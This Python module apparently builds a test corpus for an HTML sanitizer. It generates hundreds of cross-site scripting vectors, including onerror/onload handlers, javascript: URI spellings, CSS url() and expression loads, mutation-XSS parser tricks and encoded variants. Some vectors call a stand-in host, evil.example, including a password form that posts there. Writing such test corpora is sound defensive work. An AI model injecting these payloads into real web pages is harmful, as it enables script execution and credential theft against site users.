"""Markup that would run, load, send or cover something where a program lets it through. Made here, family by family.

Each vector is a text with CALL in it, which `numbered` replaces by a call that tells its number.
"""

from __future__ import annotations

import base64
import html
from itertools import cycle, product

CALL = "CALL"
ELSEWHERE = "http://evil.example/canary"  # what nothing that we publish may ask for

_IMG = f"<img src=x onerror={CALL}>"
_SPACES = (" ", "/", "\t", "\n", "\x0c", "\r", " / ", "//")


def vectors() -> list[str]:
    """Each once."""
    families = (
        _by_itself(),
        _touched(),
        _scripts(),
        _addresses(),
        _styles(),
        _frames_and_forms(),
        _mutations(),
        _broken(),
        _encoded(),
    )
    return list(dict.fromkeys(vector for family in families for vector in family))


def numbered(vector: str, number: int) -> str:
    """The vector as vector *number*: what it runs calls mark(*number*) at the top."""
    return vector.replace(CALL, f"top.mark({number})").replace(ELSEWHERE, f"{ELSEWHERE}-{number}")


def _by_itself() -> list[str]:
    """Handlers that nobody needs to touch."""
    found = [f"<{tag}{space}src=x{space}onerror={CALL}>" for tag, space in product(("img", "image", "IMG"), _SPACES)]
    found += [
        f"<{tag} src=x onerror={CALL}></{tag}>" for tag in ("video", "audio", "script", "embed", "input type=image")
    ]
    found += [f"<{outer}><source src=x onerror={CALL}></{outer}>" for outer in ("video", "audio")]
    found += [f"<svg{space}onload={CALL}>" for space in _SPACES]
    found += [f"<svg><{tag} onload={CALL}></svg>" for tag in ("svg", "g", "image href=x", "script", "style")]
    found += [
        f"<svg><{tag} attributeName=x dur=1s onbegin={CALL}></svg>"
        for tag in ("animate", "set", "animateTransform", "animateMotion")
    ]
    found += [f"<svg><image {href}=x onerror={CALL}></svg>" for href in ("href", "xlink:href")]
    found += [f"<{tag} autofocus tabindex=1 onfocus={CALL}>x</{tag}>"
              for tag in ("input", "select", "textarea", "button", "a href=#", "p", "div contenteditable", "x-y")]  # fmt: skip
    found += [f"<{tag} onload={CALL}>" for tag in _LOADED]
    return found + [f"<{tag}={CALL}>" for tag in _ALONE]


_LOADED = (
    "body", "iframe", "frameset", "object data=about:blank", "link rel=stylesheet href=data:,",
    "img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=",
)  # fmt: skip
_ALONE = (
    "body onpageshow", "details open ontoggle", "marquee onstart", "object data=x onerror",
    "link rel=stylesheet href=x onerror",
    "style onload", "video poster=x src=x onerror", "isindex type=image src=1 onerror", "keygen autofocus onfocus",
    "track src=x onerror", "p popover ontoggle",
    "style>@keyframes x{}</style><p style=animation-name:x onanimationstart",
    "picture><source srcset=x><img onerror", "img srcset=x onerror", "video><track default src=x onerror",
)  # fmt: skip
_EVENTS = (
    "click dblclick auxclick contextmenu mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave wheel"
    " pointerdown pointerover pointermove pointerenter gotpointercapture keydown keypress keyup beforeinput input"
    " change focus blur focusin copy cut paste drag dragstart dragover drop touchstart touchend animationend"
    " animationiteration transitionend scroll select toggle cancel close invalid reset submit play pause ended"
    " canplay loadstart resize search securitypolicyviolation"
).split()
_TAGS = "p a b img span td li h1 q details summary time video audio bdi figure font center blockquote x".split()
_QUOTES = ("{}", '"{}"', "'{}'", "`{}`")


def _touched() -> list[str]:
    """Handlers that a hand, a key or a clock sets off, on elements that may stay."""
    tags, quotes, spaces = cycle(_TAGS), cycle(_QUOTES[:3]), cycle(_SPACES[:5])
    return [f"<{next(tags)}{next(spaces)}on{event}={next(quotes).format(CALL)}>x" for event in _EVENTS] + [
        f"<{tag} oNcLiCk={CALL} ONMOUSEOVER={CALL}>x</{tag}>" for tag in _TAGS
    ]


def _scripts() -> list[str]:
    code = base64.b64encode(b"top.mark").decode()
    return [
        f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<ScRiPt >{CALL}</sCrIpT >",
        f"<script/x>{CALL}</script>", f"<script\n>{CALL}</script\n>",
        f"<script\x0c>{CALL}</script>", f"<script>{CALL}", f"<script>{CALL}//<p>",
        f"<script><!--\n{CALL}\n--></script>",
        f"<script>/*<![CDATA[*/{CALL}/*]]>*/</script>", f"<script type=module>{CALL}</script>",
        f"<script type=text/javascript>{CALL}</script>",
        f"<script language=javascript>{CALL}</script>", f"<script src=data:,{CALL}></script>",
        f"<script src='data:text/javascript,{CALL}'></script>",
        f"<script src={ELSEWHERE}></script>", "<script src=//evil.example/canary></script>",
        f"<script defer src={ELSEWHERE}></script>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<<script>{CALL}//<</script>", f"<script <b>>{CALL}</script>",
        f"<svg><script>{CALL}</script></svg>",
        f"<svg><script>{CALL}", f"<svg><script href=data:,{CALL} /></svg>",
        f"<svg><script xlink:href=data:,{CALL}></script></svg>",
        f"<svg><script>&#116;op.mark(0);{CALL}</script></svg>", f"<math><script>{CALL}</script></math>",
        f"<script>eval(atob('{code}'));{CALL}</script>",
        f"<script nonce=x>{CALL}</script>", f"<noscript><script>{CALL}</script></noscript>",
        f"<template><script>{CALL}</script></template>",
        f"</script><script>{CALL}</script>", f"</title><script>{CALL}</script>",
        f"</textarea><script>{CALL}</script>", f"]]><script>{CALL}</script>",
        f"--><script>{CALL}</script>", f"</style><script>{CALL}</script>", f"</svg><script>{CALL}</script>",
        f"<p>{'x' * 300}<script>{CALL}</script>",
        f"<script for=window event=onload>{CALL}</script>", f"<x><script>{CALL}</script></x>",
        f"<table><script>{CALL}</script></table>",
        f"<select><script>{CALL}</script></select>", f"<script>{CALL}</script\x00>", f"<script\x00>{CALL}</script>",
        f"\x00<script>{CALL}</script>",
    ]  # fmt: skip


_SPELLINGS = (
    "javascript:{}", "JaVaScRiPt:{}", "java&#9;script:{}", "java&#10;script:{}", "java&#13;script:{}",
    "java&Tab;script:{}", "java&NewLine;script:{}",
    "javascript&colon;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "&#0000106avascript:{}",
    "&#x0000006Aavascript:{}", " javascript:{}",
    "&#1;javascript:{}", "&#8;&#14;javascript:{}", "&#32;&#9;javascript:{}", "javascript&#58;{}", "javascript:/**/{}",
    "javascript://x%0a{}",
    "javascript:void({})", "javascript:%74op;{}", "jav\tascript:{}", "jav\nascript:{}", "\x01javascript:{}",
    "javascript\t:{}", "ｊavascript:{}",
    "vbscript:{}", "livescript:{}", "feed:javascript:{}", "view-source:javascript:{}", "mhtml:javascript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;charset=utf-8,<script>{}</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>", "data:,{}",
    "DATA:text/html,<img src=x onerror={}>", "about:blank#{}", "blob:{}", "filesystem:{}", "https:javascript:{}",
    "mailto:javascript:{}",
)  # fmt: skip
_CARRIERS = (
    '<a href="{}">x</a>', "<a href='{}'>x", '<area href="{}">', '<form action="{}"><input type=submit></form>',
    '<form><button formaction="{}">x</button></form>',
    '<iframe src="{}"></iframe>', '<object data="{}"></object>', '<embed src="{}">',
    '<svg><a href="{}"><text>x</text></a></svg>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math><a href="{}">x</a></math>', '<math href="{}">x</math>',
    '<img src="{}">', '<video src="{}">',
    '<video poster="{}">', '<audio src="{}">', '<q cite="{}">x</q>', '<blockquote cite="{}">x</blockquote>',
    '<body background="{}">',
    '<table background="{}"><td background="{}">x', '<link rel=stylesheet href="{}">', '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<img srcset="{} 1x">', '<input type=image src="{}">', '<frameset><frame src="{}"></frameset>',
    '<svg><use href="{}"/></svg>',
    '<svg><image href="{}"/></svg>', '<a href="https://courier.example/" ping="{}">x</a>',
    '<img lowsrc="{}" dynsrc="{}">', '<del cite="{}">x</del>',
    '<svg><a><animate attributeName=href values="{}"/><text>x</text></a></svg>',
    '<svg><a><set attributeName=href to="{}"/><text>x</text></a></svg>',
    '<isindex action="{}">', '<a href="{}" target=_self>x</a>', '<a x href="{}"/>x', '<a href= "{}">x</a>',
)  # fmt: skip


def _addresses() -> list[str]:
    """Every spelling in a link, every carrier with the plain one, and a mix of the rest."""
    found = [_CARRIERS[0].replace("{}", spelling) for spelling in _SPELLINGS]
    found += [carrier.replace("{}", _SPELLINGS[0]) for carrier in _CARRIERS[1:]]
    carriers = cycle(_CARRIERS[1:13])
    found += [next(carriers).replace("{}", spelling) for spelling in _SPELLINGS[1:]]
    return [each.replace("{}", CALL) for each in found]


def _styles() -> list[str]:
    declarations = (
        "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999", f"background:url({ELSEWHERE})",
        f"background-image:url('{ELSEWHERE}')",
        f"width:expression({CALL})", f"xss:expr/**/ession({CALL})", f"-moz-binding:url({ELSEWHERE})",
        f"behavior:url({ELSEWHERE})",
        f"background:url(javascript:{CALL})", f"list-style:url({ELSEWHERE})", f"content:url({ELSEWHERE})",
        f"cursor:url({ELSEWHERE}),auto",
        f"border-image:url({ELSEWHERE})", f"background:\\75rl({ELSEWHERE})", f"mask:url({ELSEWHERE})", "display:none",
        "font-size:900px", "unicode-bidi:bidi-override",
    )  # fmt: skip
    return [
        *(f'<p style="{each}">x</p>' for each in declarations),
        *(f"<style>*{{{each}}}</style>" for each in declarations),
        f"<style>@import '{ELSEWHERE}';</style>", f"<style>@import url({ELSEWHERE})</style>",
        f"<style>@font-face{{font-family:x;src:url({ELSEWHERE})}}*{{font-family:x}}</style>",
        f"<link rel=stylesheet href={ELSEWHERE}>", f"<svg><style>@import '{ELSEWHERE}';</style></svg>",
        f"<style>{CALL}</style><p class=x id=y>",
        f"<svg><rect fill='url({ELSEWHERE})'/></svg>", f"<table background={ELSEWHERE}>",
        f"<td background={ELSEWHERE}>", f"<body background={ELSEWHERE}>",
        f"<link rel=preload as=script href={ELSEWHERE}>", f"<link rel=prefetch href={ELSEWHERE}>",
        f"<link rel=icon href={ELSEWHERE}>", "<font size=9999 color=red>x",
    ]  # fmt: skip


def _frames_and_forms() -> list[str]:
    inner = html.escape(f"<script>{CALL}</script>")
    return [
        f'<iframe srcdoc="{inner}"></iframe>', f"<iframe srcdoc='<img src=x onerror={CALL}>'></iframe>",
        f"<iframe src={ELSEWHERE}></iframe>",
        f"<iframe src={ELSEWHERE} width=1 height=1 style=display:none></iframe>",
        f"<frameset><frame src={ELSEWHERE}></frameset>", f"<object data={ELSEWHERE}></object>",
        f"<embed src={ELSEWHERE}>", f"<object type=text/html data='data:text/html,<script>{CALL}</script>'></object>",
        f"<applet code={ELSEWHERE}></applet>",
        f"<portal src={ELSEWHERE}></portal>", f"<fencedframe src={ELSEWHERE}></fencedframe>",
        f"<form action={ELSEWHERE}><input name=password type=password><button>Log in</button></form>",
        f"<form action={ELSEWHERE} id=f></form><input form=f name=x autofocus onfocus={CALL}>",
        f"<input type=image formaction={ELSEWHERE}>",
        f"<form onsubmit={CALL}><button>x</button></form>", f"<form oninput={CALL}><input></form>",
        f"<form><button onclick={CALL}>x</button></form>",
        f"<select onchange={CALL}><option>1<option>2</select>", f"<textarea onfocus={CALL}>x</textarea>",
        f"<label onclick={CALL}>x</label>", f"<output onclick={CALL}>x</output>",
        f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
        f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{CALL}</script>'>",
        "<meta http-equiv=Set-Cookie content='a=b'>", "<meta name=referrer content=unsafe-url>",
        f"<base href={ELSEWHERE}/>", f"<base target=_blank><a href={ELSEWHERE} onclick={CALL}>x</a>",
        f"<dialog open onclick={CALL}>x</dialog>", f"<menu type=context><menuitem onclick={CALL}></menu>",
        f"<canvas onclick={CALL}></canvas>", f"<map><area href=javascript:{CALL}></map>",
        f"<noscript><iframe src={ELSEWHERE}></iframe></noscript>",
        f"<noframes><iframe src={ELSEWHERE}></iframe></noframes>",
        f"<a href=x name=mark id=mark>x</a><img id=top onerror={CALL} src=x>",
        f"<img name=body src=x onerror={CALL}><form id=document><input name=cookie></form>",
        f"<link rel=import href={ELSEWHERE}>", f"<link rel=manifest href={ELSEWHERE}>",
        f"<?xml-stylesheet href='{ELSEWHERE}'?>{_IMG}", f"<?import namespace=t implementation={ELSEWHERE}>",
        f"<comment><img src='</comment>{_IMG}'></comment>",
        f"<a href=# data-x='{_IMG}' title='{html.escape(_IMG)}' onclick={CALL}>x</a>",
        f"<video autoplay onplay={CALL} onloadstart={CALL}><source src=x></video>",
    ]  # fmt: skip


_OUTER = ("svg", "math", "math><mtext", "math><mi", "math><annotation-xml encoding=text/html", "svg><foreignObject",
          "svg><desc", "svg><title", "table", "select",
          "form><math><mtext></form><form><mglyph", "p", "a", "template", "math><mtext><table><mglyph", "table><td",
          "button", "details", "ruby><rt", "dl><dd")  # fmt: skip
_RAW = ("style", "title", "textarea", "xmp", "noscript", "iframe", "noembed", "noframes", "script", "plaintext")


def _mutations() -> list[str]:
    """What is text to one parser and markup to the next: raw text in and out of SVG, MathML and tables."""
    return [
        *(f'<{outer}><{raw}><a title="</{raw}>{_IMG}">' for outer, raw in product(_OUTER, _RAW)),
        *(f"<{outer}><{raw}><!--</{raw}>{_IMG}-->" for outer, raw in product(_OUTER[:5], _RAW[:5])),
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
        f'<svg></p><style><a id="</style>{_IMG}">', f"<svg><p><style><img src='</style>{_IMG}'>",
        f'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>{_IMG}">',
        f'<noscript><p title="</noscript>{_IMG}">', f"<svg><![CDATA[><image xlink:href='x' onerror={CALL}>]]></svg>",
        f"<svg><![CDATA[{_IMG}]]></svg>", f"<math><![CDATA[{_IMG}]]></math>",
        f"<p><svg><title>&lt;img src=x onerror={CALL}&gt;</title></svg>",
        f"<select><template><style><!--</style><a rel=\"--></style></template></select>{_IMG}\"></a>",
        f"<table><a title=\"</table>{_IMG}\">", f"<a><table><a>{_IMG}", f"<form><form>{_IMG}", f"<p><p{_IMG}",
        "<b><i></b>" * 30 + _IMG, f"<svg/><svg/><style>{_IMG}", f"<xmp><p title='</xmp>{_IMG}'>",
        f"<svg><use><template shadowrootmode=open>{_IMG}",
        f"<div><template shadowrootmode=open>{_IMG}</template></div>",
        f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
        f"<pre>\n&lt;img src=x onerror={CALL}&gt;</pre>", f"<ruby><rtc><rt><style></rt>{_IMG}",
        f"<option><style></option></select>{_IMG}</style>", f"<caption><math><style></caption>{_IMG}",
    ]  # fmt: skip


def _broken() -> list[str]:
    """Tags that are no tags, ends that are no ends, quotes in the wrong place."""
    event = f"onerror={CALL}"
    return [
        f"<img src=x {event}", f"<img src=x {event} <b>", f'<img src="x"{event}>', f"<img src='x'{event}>",
        f"<img src=`x`{event}>", f'<img """><img src=x {event}>"', f"<img/ /src=x/{event}>",
        f"<img\x00 src=x {event}>", f"<\x00img src=x {event}>", f"<img src=x on\x00error={CALL}>",
        f"<img src=x\x00 {event}>", f"<img src=x {event}\x00>", f"< img src=x {event}>", f"<<img src=x {event}>>",
        f"<a<img src=x {event}>", f"</p<img src=x {event}>", f"<!--><img src=x {event}>",
        f"<!---><img src=x {event}>", f"<!-- --!><img src=x {event}>", f"<!--x--!><img src=x {event}>-->",
        f"<!-- <!-- --><img src=x {event}>", f"<!x><img src=x {event}>", f"<![endif]--><img src=x {event}>",
        f"<!--[if IE]><img src=x {event}><![endif]-->", f"<?x ?><img src=x {event}>",
        f"<? ><img src=x {event}>", f"<%x%><img src=x {event}>", f"</ ><img src=x {event}>",
        f"</><img src=x {event}>", f"<!doctype x><img src=x {event}>", f"<![CDATA[<img src=x {event}>]]>",
        f"]]><img src=x {event}>", f"'><img src=x {event}>", f'"><img src=x {event}>', f"--><img src=x {event}>",
        f"</title></style></textarea></noscript></xmp><img src=x {event}>",
        f"<img src=x alt='\"><img src=x {event}>'>", f"<img src=x title=\"'><img src=x {event}>\">",
        f"<p title='{_IMG}'>x</p>", f'<p title="&quot;><img src=x {event}>">x</p>',
        f"<p lang='\"><img src=x {event}>'>x</p>", f"<p dir='\" {event}'>x</p>", f"<ol start='1\" {event}'>x</ol>",
        f"<time datetime='\"><img src=x {event}>'>x</time>", f"<td colspan='2\" {event}'>x",
        f"<img width='1\" {event} x=\"' src=x>", f"<x-img src=x {event}>", f"<img src=x {event} alt=<p>",
        f"<img src=x onerror\n=\n{CALL}>", f"<img src=x onerror = '{CALL}'>", f"<img src=x ONERROR={CALL}>",
        f"<img src=x onerror=\"&#116;op.mark(0);{CALL}\">", f"<ſcript>{CALL}</ſcript><img src=x {event}>",
        f"<ımg src=x {event}><img src=x {event}>", f"＜img src=x {event}＞<img src=x {event}>",
        f"<img\u00a0src=x {event}><img src=x {event}>", f"<img\u2028src=x\u2029{event}><img src=x {event}>",
        f"\u202e<img src=x {event}>\u202c", f"\u2066<img src=x {event}>", f"<img src=x {event}>\u200f",
        f"<p>{'<div>' * 250}<img src=x {event}>", f"{'<b>' * 100}<img src=x {event}>",
        f"{'<a>' * 60}<img src=x {event}>", f"<img src=x {event} " + "a " * 500 + ">",
        f"<img src='{'x' * 5000}' {event}>",
        f"<img src=x:x {event}>", f"<img src {event}>",
        f"<img src=x usemap=#m {event}><map name=m><area href=javascript:{CALL}></map>",
        f"<p id=x class=y><img src=x {event}></p id=x {event}>",
    ]  # fmt: skip


def _encoded() -> list[str]:
    """The same behind one, two and three decodings, and other alphabets."""
    found = []
    for markup in (
        _IMG,
        f"<script>{CALL}</script>",
        f"<svg onload={CALL}>",
        f"<a href=javascript:{CALL}>x</a>",
        f"<iframe srcdoc='{_IMG}'></iframe>",
    ):
        once = html.escape(markup)
        found += [once, html.escape(once), html.escape(html.escape(once)), f"<p>{once}</p>",
        f"&lt;p&gt;{once}&lt;/p&gt;", f"<p title='{once}'>x</p>",
                  "".join(f"&#{ord(letter)};" for letter in markup),
                  "".join(f"&#x{ord(letter):x}" for letter in markup), markup.replace("<", "&LT;").replace(">",
                  "&GT;"),
                  markup.replace("<", "&lt"), markup.replace("<", "\\u003c").replace(">", "\\u003e"),
                  markup.replace("<", "\\x3c"), markup.replace("<", "%3C").replace(">", "%3E"),
                  markup.replace("<", "+ADw-").replace(">", "+AD4-"), f"<![CDATA[{markup}]]>", f"<![CDATA[{once}]]>",
                  f"&lt;![CDATA[{markup}]]&gt;"]  # fmt: skip
    return found
